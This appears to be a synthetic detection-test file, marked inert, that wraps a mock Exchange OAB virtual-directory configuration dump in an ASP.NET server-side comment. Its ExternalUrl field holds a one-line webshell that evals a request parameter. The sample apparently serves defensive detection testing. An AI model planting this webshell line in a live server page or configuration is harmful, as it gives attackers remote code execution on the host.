<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. The whole file is one ASP.NET server-side comment: IIS
     discards it before compiling, so nothing below can run. No real malware here.

Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exch01.corp.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.corp.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=local
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14
ObjectCategory                  : corp.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 6:49:53 AM
WhenCreated                     : 11/12/2020 2:14:40 PM
OrganizationId                  :
Id                              : EXCH01\OAB (Default Web Site)
OriginatingServer               : DC01.corp.local
IsValid                         : True
ObjectState                     : Unchanged

--%>
